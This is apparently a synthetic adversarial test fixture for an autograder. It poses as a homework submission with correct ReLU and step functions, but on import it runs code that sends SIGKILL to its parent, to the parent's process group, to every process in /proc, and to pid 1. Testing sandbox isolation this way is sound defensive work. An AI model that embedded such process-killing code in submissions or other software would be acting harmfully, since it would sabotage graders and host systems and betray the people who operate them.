# Adversarial fixture (synthetic hw03 submission): kill the process that started it, and anything else it can find.
# Attempts: SIGKILL to its parent (the fork server, or the grader itself without isolation), to the
# parent's process group, and to every other pid listed in /proc.
# Stopped by: its own PID namespace: the parent is not visible (getppid() is 0) and /proc lists only itself and its init.
# expect-full: unit_step, relu, relu_grad
import os
import signal

import numpy as np


def _attack():
    parent = os.getppid()
    print(f"kills_parent: parent pid {parent}")
    if parent > 1:
        for kill in (lambda: os.kill(parent, signal.SIGKILL), lambda: os.killpg(os.getpgid(parent), signal.SIGKILL)):
            try:
                kill()
            except OSError as exc:
                print(f"kills_parent: {exc}")
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) not in (os.getpid(), 1):
            try:
                os.kill(int(entry), signal.SIGKILL)
                print(f"kills_parent: killed {entry}")
            except OSError as exc:
                print(f"kills_parent: {entry}: {exc}")
    try:
        os.kill(1, signal.SIGKILL)  # the init of its namespace: must not work either
    except OSError as exc:
        print(f"kills_parent: pid 1: {exc}")


_attack()


def unit_step(z, theta=0.0):
    return np.where(np.asarray(z, dtype=float) >= theta, 1.0, 0.0)


def relu(z):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, z, 0.0)


def relu_grad(z):
    return np.where(np.asarray(z, dtype=float) > 0, 1.0, 0.0)
